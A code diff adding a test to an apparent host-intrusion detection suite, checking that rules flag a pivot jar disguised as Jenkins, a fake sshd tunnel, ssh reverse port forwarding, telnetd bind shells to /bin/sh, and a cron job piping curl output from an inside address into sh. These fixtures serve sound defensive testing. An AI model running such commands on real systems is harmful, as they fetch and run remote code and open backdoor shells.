@@ -52,3 +52,34 @@ test("GitLab's ExifTool RCE (CVE-2021-22205) in the Omnibus package's versions",
   t.equal(gitlab("12.10.1-ce.0").length, 1);
   t.same(gitlab("11.8.0-ce.0"), []);
 });
+
+test("the second review's borrowed forms stay findings: Jenkins by mention, a tunnel named sshd, telnetd's -E, interpreter scripts that only mention a runtime's token, an inside address a command uses", async (t) => {
+  const ssh = (path: string, cmdline: string) => host({ processes: [proc(40, "java", path, cmdline, { uid: "110" })], process_open_sockets: [sock(40, "10.210.0.11", 22)] });
+  for (const [path, cmd] of [
+    ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -cp /tmp/.p.jar Pivot -jar /usr/share/java/jenkins.war"],
+    ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -jar /tmp/.p.jar -jar /usr/share/java/jenkins.war"],
+    ["/tmp/x/bin/java", "java -jar /usr/share/java/jenkins.war"],
+  ] as const) t.ok(findings("lateral-admin-connection", ssh(path, cmd)).length > 0, `${path} ${cmd}`);
+
+  const login = { user: "root", host: "127.0.0.1", tty: "pts/1", type: "user", time: "1731900000", pid: "4242" };
+  const renamed = host({ logged_in_users: [login], processes: [proc(50, "sshd", "/tmp/.x/sshd", "sshd")], process_open_sockets: [sock(50, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
+  t.equal(findings("remote-root-login", renamed).length, 1, "a tunnel named sshd outside sshd's path");
+  const forward = host({ logged_in_users: [login], processes: [proc(51, "ssh", "/usr/bin/ssh", "ssh -o RemoteForward=2222:127.0.0.1:22 u@198.51.100.9")], process_open_sockets: [sock(51, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
+  t.equal(findings("remote-root-login", forward).length, 1, "ssh -o RemoteForward");
+
+  const tl = (cmdline: string) => host({ processes: [proc(60, "in.telnetd", "/usr/sbin/in.telnetd", cmdline)], listening_ports: [{ pid: "60", port: "23", address: "0.0.0.0", protocol: "6" }] });
+  t.ok(findings("unexpected-listener", tl("in.telnetd -L /bin/sh")).length > 0);
+  t.same(findings("unexpected-listener", tl("in.telnetd")), []);
+  const bb = host({ processes: [proc(61, "telnetd", "/bin/busybox", "telnetd -p 23 -l /bin/sh -f -l/bin/login")], listening_ports: [{ pid: "61", port: "23", address: "0.0.0.0", protocol: "6" }] });
+  t.ok(findings("unexpected-listener", bb).length > 0, "-f takes the next word as its value: the login program is /bin/sh");
+
+  const py = (cmdline: string, port: number) => host({ processes: [proc(70, "python3", "/usr/bin/python3", cmdline, { uid: "1000" })], listening_ports: [{ pid: "70", port: String(port), address: "0.0.0.0", protocol: "6" }] });
+  t.ok(findings("unexpected-listener", py("python3 /home/u/.x.py --cfg /usr/local/bin/torchrun", 29400)).length > 0);
+  t.ok(findings("unexpected-listener", py("python3 /home/u/.x.py -m localstack.x", 4566)).length > 0);
+  t.same(findings("unexpected-listener", py("python3 -m localstack.runtime.main", 4566)), []);
+
+  const ioc = getDetection("ioc-match");
+  const cron = host({ crontab: [{ command: "curl -s http://10.20.30.40/x.sh | sh", path: "/etc/cron.d/u" }] });
+  const hits = ioc?.evaluate(cron, { entities: { ips: ["10.20.30.40"], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} } }) ?? [];
+  t.equal(hits[0]?.severity ?? "medium", "medium", "an inside address a cron job fetches from keeps its severity");
+});
